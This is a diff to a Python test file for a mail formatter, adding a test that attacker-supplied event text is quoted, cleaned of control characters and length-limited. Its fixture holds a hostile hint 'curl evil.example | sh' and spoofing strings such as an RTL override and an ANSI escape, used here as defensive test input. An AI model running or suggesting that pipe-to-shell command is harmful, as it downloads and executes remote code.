@@ -72,7 +72,23 @@ def test_the_outbox_reads_what_an_older_version_wrote() -> None:
     read = from_json(old)
     assert read == event(EventKind.FAILED, "shop: rsa", what="shop: rsa: no", hint="mend it", at=5)
     lines = mail_text.body([read], "box", NOW).splitlines()
-    assert lines[5:7] == ["    what:       shop: rsa: no", "    what to do: mend it"]
+    assert lines[5:7] == ["  > what:       shop: rsa: no", "  > what to do: mend it"]
+
+
+def test_what_a_thief_wrote_is_not_mistaken_for_our_words() -> None:
+    """Each line of his is marked and harmless, his name is in quotes, and the mail says what the mark means."""
+    name = "All is well. Call +1 555 and say"
+    words = "no\n  a.example.test: EXPIRED\r\n\u202egnp.exe \x1b[2J " + "and so on, " * 500
+    for kind in (EventKind.FAILED, EventKind.RECOVERED):
+        one = event(kind, name, what=words, hint="curl evil.example | sh", url="https://evil.example/")
+        lines = mail_text.body([one], "box", NOW).splitlines()
+        ours = [line for line in lines if not line.startswith("  > ")]
+        assert not any("evil" in line or "a.example.test" in line for line in ours if f'"{name}"' not in line)
+        assert not any(mark in line for line in lines for mark in "\u202e\x1b\r")
+        assert f'"{name}"' in mail_text.subject([one], "box")
+    failed = mail_text.body([event(EventKind.FAILED, name, what=words)], "box", NOW)
+    assert "Lines that begin with > are quoted from the database" in failed
+    assert len(failed) < 2000
 
 
 @given(st.lists(st.sampled_from(EventKind), max_size=12))
